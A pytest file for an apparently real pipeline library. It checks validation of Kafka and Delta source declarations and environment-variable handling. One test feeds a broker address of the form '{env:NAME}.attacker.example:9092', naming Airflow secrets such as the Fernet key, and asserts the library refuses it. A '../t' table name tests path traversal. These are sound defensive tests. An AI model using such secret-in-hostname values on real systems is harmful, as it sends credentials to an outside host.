"""What may be declared of Kafka and Delta sources, how it is told what may not, and what an environment
variable in it stands for.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from streamkeeper.declare.model import Source, pipeline_from_json, pipeline_to_json
from streamkeeper.errors import DeclarationError, SettingsError
from streamkeeper.manifest.environment import opened, opened_if_possible, variables
from streamkeeper.manifest.import_file import fingerprint
from streamkeeper.settings import PIPELINE_ENV, Settings
from tests.worlds.pipelines import TAIL, load

BROKER = {"kafka.bootstrap.servers": "broker:9092"}
KAFKA = {**BROKER, "subscribe": "orders"}


@pytest.fixture(autouse=True)
def seen(monkeypatch: pytest.MonkeyPatch) -> None:
    """Let pipelines see the variables that these tests name."""
    monkeypatch.setenv(PIPELINE_ENV, "ORDERS_*,LIMIT,ONE,PORT")


def kafka(more: Mapping[str, Any] = {}, options: Mapping[str, Any] = KAFKA, **given: Any) -> dict[str, Any]:
    return {"format": "kafka", "options": {**options, **more}, **given}


def delta(options: Mapping[str, Any] = {}, **given: Any) -> dict[str, Any]:
    return {"format": "delta", "table": "u", "options": options, **given}


def text(**parameters: Any) -> str:
    given = ", ".join(f"{name}={value!r}" for name, value in parameters.items())
    return f"dp.create_source('raw', {given})"


def declare(folder: Path, **parameters: Any) -> Source:
    return load(folder, text(**parameters) + TAIL).sources[0]


GOOD: dict[str, dict[str, Any]] = {
    "topics": kafka({"maxOffsetsPerTrigger": 1000, "failOnDataLoss": False}),
    "partitions": kafka({"assign": '{"orders": [0, 1]}'}, BROKER),
    "a pattern": kafka({"subscribePattern": "orders-[0-9]{2}", "minOffsetsPerTrigger": "5"}, BROKER),
    "capitals as Spark takes them": kafka(options={"Kafka.Bootstrap.Servers": "b:1", "SUBSCRIBE": "a, b"}),
    "a broker of the environment": kafka({"kafka.bootstrap.servers": "{env:ORDERS_BROKERS}"}),
    "a limit of the environment": kafka({"maxOffsetsPerTrigger": "{env:LIMIT}"}),
    "a secret of the environment": kafka({"kafka.sasl.jaas.config": "{env:ORDERS_LOGIN}"}),
    "kafka from its end": kafka(start="latest"),
    "kafka from a moment": kafka(start="timestamp:2026-11-21T10:00:00+02:00"),
    "kafka from offsets": kafka(start={"orders": {"0": 5, "1": -2}}),
    "a path": {"format": "delta", "path": "{data}/t"},
    "a table": {**delta({"readChangeFeed": True, "maxFilesPerTrigger": 5}), "table": "s.t"},
    "deletes": delta({"skipChangeCommits": "true", "maxBytesPerTrigger": "10m"}),
    "delta from a version": delta(start="version:12"),
    "delta that tracks its schema": delta(track_schema=True),
}


@pytest.mark.parametrize("parameters", GOOD.values(), ids=GOOD.keys())
def test_a_source_is_what_its_file_declares(parameters: dict[str, Any], tmp_path: Path) -> None:
    pipeline = load(tmp_path, text(**parameters) + TAIL)
    source = pipeline.sources[0]
    assert (source.format, source.start) == (parameters["format"], parameters.get("start", "earliest"))
    assert (source.table, source.reads_files) == (parameters.get("table"), False)
    assert source.track_schema == ("track_schema" in parameters)
    assert source.options.keys() == parameters.get("options", {}).keys()
    assert pipeline_from_json(pipeline_to_json(pipeline)) == pipeline


BAD: dict[str, tuple[dict[str, Any], str]] = {
    "no broker": (
        {"format": "kafka", "options": {"subscribe": "orders"}},
        "names no broker. Give the option 'kafka.bootstrap.servers'",
    ),
    "an empty broker": (kafka({"kafka.bootstrap.servers": " "}), "names no broker"),
    "no topic": (
        kafka({}, BROKER),
        "has none of them. Give exactly one of the options subscribe, subscribePattern, as",
    ),
    "topics in two ways": (
        kafka({"subscribePattern": "o.*"}),
        "has subscribe and subscribePattern. Give exactly one",
    ),
    "an empty topic": (kafka({"subscribe": "orders,"}, BROKER), "subscribe 'orders,', with an empty name"),
    "no topic's name": (kafka({"subscribe": ""}, BROKER), "has an empty subscribe"),
    "assign is not JSON": (
        kafka({"assign": "orders:0"}, BROKER),
        "assign 'orders:0'. Give JSON of partitions",
    ),
    "assign of no numbers": (
        kafka({"assign": '{"orders": ["0"]}'}, BROKER),
        "Give JSON of partitions by topic",
    ),
    "assign of nothing": (kafka({"assign": "{}"}, BROKER), "Give JSON of partitions by topic"),
    "a limit of nothing": (kafka({"maxOffsetsPerTrigger": 0}), "maxOffsetsPerTrigger '0'. Allowed is a w"),
    "a limit in words": (kafka({"minOffsetsPerTrigger": "few"}), "minOffsetsPerTrigger 'few'. Allowed is"),
    "loss in words": (kafka({"failOnDataLoss": "no"}), "failOnDataLoss 'no'. Allowed is true or false"),
    "a position": (kafka({"startingOffsets": "latest"}), "'startingOffsets' .* Streamkeeper's own"),
    "a position by time": (
        kafka({"startingOffsetsByTimestamp": "{}"}),
        "positions belong to the flow's generation; create_source.start=…. says where the first",
    ),
    "a position by the group": (kafka({"kafka.auto.offset.reset": "latest"}), "positions belong"),
    "a deserializer": (kafka({"kafka.value.deserializer": "x.Y"}), "keys and values come as bytes"),
    "a secret": (
        kafka({"kafka.ssl.truststore.password": "secret"}),
        "has a secret in its option 'kafka.ssl.truststore.password'. .* write '{conn:NAME.password}'",
    ),
    "kafka with a path": (kafka(path="/x"), "which takes no path"),
    "kafka with a schema": (kafka(schema="a INT"), "brings its own schema"),
    "kafka with a table": (kafka(table="u"), "takes no table. Only Delta sources do"),
    "kafka from a version": (kafka(start="version:1"), "Allowed are 'earliest', 'latest', 'timestamp:"),
    "kafka from a moment without a zone": (
        kafka(start="timestamp:2026-11-21T10:00:00"),
        "Allowed are 'earliest'",
    ),
    "kafka from no offsets": (kafka(start={}), "It names no topic"),
    "kafka from offsets of files": (kafka(start={"logOffset": 1}), "is an offset of a files source"),
    "kafka from below": (kafka(start={"orders": {"0": -3}}), "Kafka has no offset orders/0: -3"),
    "neither path nor table": ({"format": "delta"}, "has no place"),
    "path and table": ({"format": "delta", "path": "/x", "table": "u"}, "has path and table"),
    "a table out of the warehouse": (
        {"format": "delta", "table": "../t"},
        "the table name '' cannot be used",
    ),
    "delta with a schema": (delta(schema="a INT"), "brings its own schema"),
    "delta from a version's option": (delta({"startingVersion": 1}), "Streamkeeper's own to set"),
    "a schema log elsewhere": (
        delta({"schemaTrackingLocation": "/x"}),
        r"Say create_source.track_schema=True. instead",
    ),
    "files below nothing": (delta({"maxFilesPerTrigger": -1}), "maxFilesPerTrigger '-1'. Allowed"),
    "bytes in words": (delta({"maxBytesPerTrigger": "some"}), "Allowed is a size such as 10m"),
    "a change feed that skips changes": (
        delta({"readChangeFeed": True, "skipChangeCommits": True}),
        "has readChangeFeed and skipChangeCommits",
    ),
    "delta from no version": (delta(start="version:last"), "Allowed are .*'version:12'"),
    "delta from offsets": (delta(start={"orders": {"0": 1}}), "Allowed are .*'version:12'"),
    "files from their end": (
        {"format": "json", "path": "/x", "start": "latest"},
        "Only Kafka and Delta sources take another start",
    ),
    "files that track a schema": (
        {"format": "json", "path": "/x", "track_schema": True},
        "Only Delta sources take it",
    ),
    "files that may be broken": (
        {"format": "json", "path": "/x", "options": {"ignoreCorruptFiles": True}},
        "has the option 'ignoreCorruptFiles': a file that cannot be read",
    ),
    "files known by their names": (
        {"format": "json", "path": "/x", "options": {"filenameonly": True}},
        "'filenameonly': of two files of one name in two folders the second would never be read",
    ),
    "rows that come again": (
        delta({"ignoreChanges": True}),
        "the source raw has ignoreChanges, by which it gives all rows of each file",
    ),
    "rows that come again, by another name": (
        delta({"ignoreFileDeletion": True}),
        "the source raw has ignoreFileDeletion, by which it gives all rows",
    ),
    "tracking in words": (delta(track_schema="yes"), "has track_schema 'yes'"),
}


@pytest.mark.parametrize(("parameters", "message"), BAD.values(), ids=BAD.keys())
def test_what_is_not_allowed_of_a_source_is_refused_with_its_place(
    parameters: dict[str, Any], message: str, tmp_path: Path
) -> None:
    with pytest.raises(DeclarationError, match=rf"^p\.py, line 2: .*{message}"):
        declare(tmp_path, **parameters)


CDC_TAIL = """
dp.create_streaming_table("t")
dp.create_auto_cdc_flow(name="f", target="t", source="raw", keys=["id"], sequence_by="n")
"""


def test_rows_that_come_again_do_nothing_in_auto_cdc(tmp_path: Path) -> None:
    assert load(tmp_path, text(**delta({"ignoreChanges": True})) + CDC_TAIL).sources


TWO_READERS = """
dp.create_source("taken", format="json", path="/in/new", options={"cleanSource": "archive"})
dp.create_source("other", format="json", path="%s", options=%r)
dp.create_streaming_table("t")
@dp.append_flow(name="f", target="t", sources=["taken"])
def f(taken):
    return taken
@dp.append_flow(name="g", target="t", sources=[%r])
def g(other):
    return other
"""


@pytest.mark.parametrize(
    ("path", "options", "source", "shared"),
    [
        ("/in/new", {}, "other", True),
        ("/in", {}, "other", True),
        ("/elsewhere", {}, "taken", True),
        ("/in/newer", {}, "other", False),
        ("/in/new", {"pathGlobFilter": "*.json"}, "other", True),
    ],
)
def test_files_that_a_flow_removes_are_read_by_no_other(
    path: str, options: dict[str, str], source: str, shared: bool, tmp_path: Path
) -> None:
    declared = TWO_READERS % (path, options, source)
    if not shared:
        assert load(tmp_path, declared).flows
        return
    message = r"^p\.py, line 3: the source taken has cleanSource, by which the flow f removes .* the flow g"
    with pytest.raises(DeclarationError, match=message):
        load(tmp_path, declared)


def test_the_environment_is_filled_in_where_the_source_is_opened_and_nowhere_before(tmp_path: Path) -> None:
    brokers = "{env:ONE}:{env:PORT},{env:ONE}:9093"
    source = declare(tmp_path, **kafka({"kafka.bootstrap.servers": brokers}))
    settings = Settings.from_environment({PIPELINE_ENV: "ONE,PORT"})
    assert source.options["kafka.bootstrap.servers"] == brokers
    assert variables(source) == ("ONE", "PORT")
    found = opened(source, settings, {"ONE": "host", "PORT": "1"})
    assert found.options["kafka.bootstrap.servers"] == "host:1,host:9093"
    with pytest.raises(SettingsError, match=r"^p.py, line 2: the source raw needs PORT in the environment"):
        opened(source, settings, {"ONE": "host", "PORT": ""})


REFUSED = {
    "not named by the setting": (
        "HOME_OF_ALL",
        "HOME_OF_ALL is not an environment variable .* STREAMKEEPER_PIPELINE_ENV names ORDERS_.*Add it there",
    ),
    "a password of Airflow's": (
        "AIRFLOW__CORE__FERNET_KEY",
        "AIRFLOW__CORE__FERNET_KEY is Airflow's own, which pipelines may not read",
    ),
    "a connection of Airflow's": ("AIRFLOW_CONN_SMTP_DEFAULT", "AIRFLOW_CONN_SMTP_DEFAULT is Airflow's own"),
    "what Airflow's image is given": (
        "_AIRFLOW_WWW_USER_PASSWORD",
        "_AIRFLOW_WWW_USER_PASSWORD is Airflow's own",
    ),
}


@pytest.mark.parametrize(("name", "message"), REFUSED.values(), ids=REFUSED.keys())
@pytest.mark.parametrize("format", ["kafka", "json"])
def test_a_variable_that_pipelines_may_not_see_is_refused_where_it_is_declared_and_where_it_would_be_opened(
    name: str, message: str, format: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(name, "s3cr3t")
    if name.startswith(("AIRFLOW", "_AIRFLOW")):
        monkeypatch.setenv(PIPELINE_ENV, "ORDERS_BROKERS,*")
    options = {**KAFKA, "kafka.bootstrap.servers": f"{{env:{name}}}.attacker.example:9092"}
    given: dict[str, Any] = {"format": "kafka", "options": options}
    if format == "json":
        given = {"format": "json", "path": "/x", "options": {"pathGlobFilter": f"{{env:{name}}}"}}
    with pytest.raises(DeclarationError, match=rf"^p\.py, line 2: source raw: {message}"):
        declare(tmp_path, **given)
    source = replace(declare(tmp_path, format="kafka", options=KAFKA), options=given["options"])
    with pytest.raises(SettingsError, match=rf"^p\.py, line 2: the source raw cannot be opened: {message}"):
        opened(source, Settings.from_environment())
    assert "s3cr3t" not in repr(opened_if_possible(source, Settings.from_environment())), (
        "the monitor opens it so, in Airflow's process"
    )


def test_a_table_of_the_warehouse_is_opened_by_its_path(tmp_path: Path) -> None:
    source = declare(tmp_path, format="delta", table="s.t")
    settings = replace(Settings.from_environment({}), warehouse="s3://bucket/w")
    assert opened(source, settings).path == "s3://bucket/w/s/t"


def test_a_source_without_what_came_later_keeps_its_flows_fingerprint(tmp_path: Path) -> None:
    def prints(**more: Any) -> str:
        pipeline = load(tmp_path, text(format="delta", path="/t", **more) + TAIL)
        return fingerprint(pipeline, pipeline.flows[0])

    assert prints() == prints(start="earliest", track_schema=False) != prints(start="latest")
    assert prints() != prints(track_schema=True)


def test_a_flow_that_reads_what_it_writes_is_refused(tmp_path: Path) -> None:
    view = "\n@dp.temporary_view(sources=['raw'])\ndef seen(raw):\n    return raw\n"
    through_a_view = TAIL.replace('"raw"', '"seen"')
    for tail in (TAIL, view + through_a_view):
        with pytest.raises(
            DeclarationError,
            match=r"the flow f writes the table t, which its source raw \(p.py, line 2\) reads",
        ):
            load(tmp_path, text(format="delta", table="t") + tail)
    assert load(tmp_path, text(format="delta", table="u") + view + through_a_view).sources[0].table == "u"
